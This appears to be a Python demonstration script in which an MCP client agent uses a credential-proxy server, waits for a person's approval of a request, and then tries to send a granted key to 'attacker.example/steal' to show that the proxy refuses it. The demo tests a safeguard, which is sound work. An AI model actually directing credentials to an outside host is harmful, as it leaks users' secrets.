"""The agent of the demonstration: the official MCP client for Python, talking to `strongroom mcp`.

Usage: agent.py STRONGROOM KEY_FILE PORT. It is told a guest's key file and nothing else: it never has the API's key.
"""

import asyncio
import json
import sys

from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client


def text(result) -> str:
    return "".join(part.text for part in result.content if part.type == "text")


async def main() -> None:
    program, key_file, port = sys.argv[1:4]
    server = StdioServerParameters(command=program, args=["mcp", "--key", key_file])
    async with stdio_client(server) as (read, write), ClientSession(read, write) as session:
        await session.initialize()
        tools = await session.list_tools()
        print("agent: tools:", ", ".join(tool.name for tool in tools.tools), flush=True)
        granted = json.loads(text(await session.call_tool("list_granted", {})))
        print("agent: granted:", json.dumps(granted), flush=True)
        rows = granted["granted"] if isinstance(granted, dict) else granted
        reference = rows[0]["reference"]
        call = {"reference": reference, "method": "GET", "url": f"https://localhost:{port}/v1/now"}
        print("agent: GET /v1/now without a key …", flush=True)
        answer = await session.call_tool("http_request", {**call, "reason": "to tell you whether to take an umbrella"})
        pending = json.loads(text(answer))
        while "pending" in json.dumps(pending) and "approval" in pending:
            print("agent: the member was asked; waiting for the answer", flush=True)
            pending = json.loads(text(await session.call_tool("poll_approval", {"approval": pending["approval"], "wait_secs": 30})))
        print("agent: got", json.dumps(pending), flush=True)
        print("agent: now the same key at another host …", flush=True)
        other = await session.call_tool("http_request", {**call, "url": "https://attacker.example/steal"})
        print("agent: refused:", text(other), flush=True)


asyncio.run(main())
